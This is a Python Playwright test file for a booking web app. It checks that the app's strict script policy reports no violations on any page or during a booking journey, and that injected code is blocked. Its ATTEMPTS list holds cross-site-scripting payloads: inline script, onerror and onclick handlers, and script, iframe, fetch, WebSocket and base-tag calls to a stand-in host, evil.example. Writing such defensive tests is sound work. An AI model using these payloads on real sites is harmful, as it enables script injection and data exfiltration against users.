"""The strict policy for scripts holds in a real browser, and takes nothing from the pages."""

import re

from playwright.sync_api import Page, expect

from booking_app import routes
from booking_app.booking_app import app
from tests.e2e.conftest import People
from tests.support import journeys
from tests.support.browser import Person
from tests.support.demo_clinic import SLUG

PAGES = sorted("/" if route == "index" else f"/{route}" for route in app._unevaluated_pages)

# Remembered in the page itself: the console does not name every kind of violation.
_COUNT_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""


def watched(person: Person) -> Page:
    person.context.add_init_script(_COUNT_VIOLATIONS)
    return person.open("/book")


def violations(page: Page) -> list[str]:
    return page.evaluate("window.violations")


def test_no_page_breaks_the_policy_neither_fresh_nor_asked_for_again(people: People) -> None:
    person = people()
    page = watched(person)
    for path in (*PAGES, *(f"{path}?clinic={SLUG}" for path in PAGES)):
        for go in (lambda path=path: page.goto(path), page.reload):
            go()
            expect(page.locator("h1").first).to_be_visible()
            assert violations(page) == [], path
    assert [said for said in person.complaints if "404" not in said] == []


def test_the_journey_needs_nothing_that_the_policy_forbids(people: People) -> None:
    person = people()
    person.context.add_init_script(_COUNT_VIOLATIONS)
    page = journeys.hold(person, "9:20am")
    expect(page).to_have_url(re.compile(routes.BOOK_DETAILS))
    assert violations(page) == []


ATTEMPTS = (
    "document.body.append(Object.assign(document.createElement('script'), {text: 'stolen = 1'}))",
    "document.body.innerHTML += '<img src=x onerror=\"stolen = 1\">'",
    "document.body.append(Object.assign(document.createElement('script'),"
    " {src: 'https://evil.example/x.js'}))",
    "document.body.append(Object.assign(document.createElement('iframe'),"
    " {src: 'https://evil.example/'}))",
    "const one = document.createElement('button'); one.setAttribute('onclick', 'stolen = 1');"
    " document.body.append(one); one.click()",
    "fetch('https://evil.example/').catch(() => 0)",
    "new WebSocket('wss://evil.example/')",
    "document.body.append(Object.assign(document.createElement('base'),"
    " {href: 'https://evil.example/'}))",
)


def test_what_an_intruder_would_add_to_a_page_does_not_run(people: People) -> None:
    page = watched(people())
    for attempt in ATTEMPTS:
        page.reload()
        expect(page.locator("h1").first).to_be_visible()
        # By the browser's own tools, which the policy does not bind, as if a hole had let it in.
        page.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{}} }}")
        page.wait_for_function("window.violations.length > 0")
        assert page.evaluate("typeof window.stolen") == "undefined", attempt
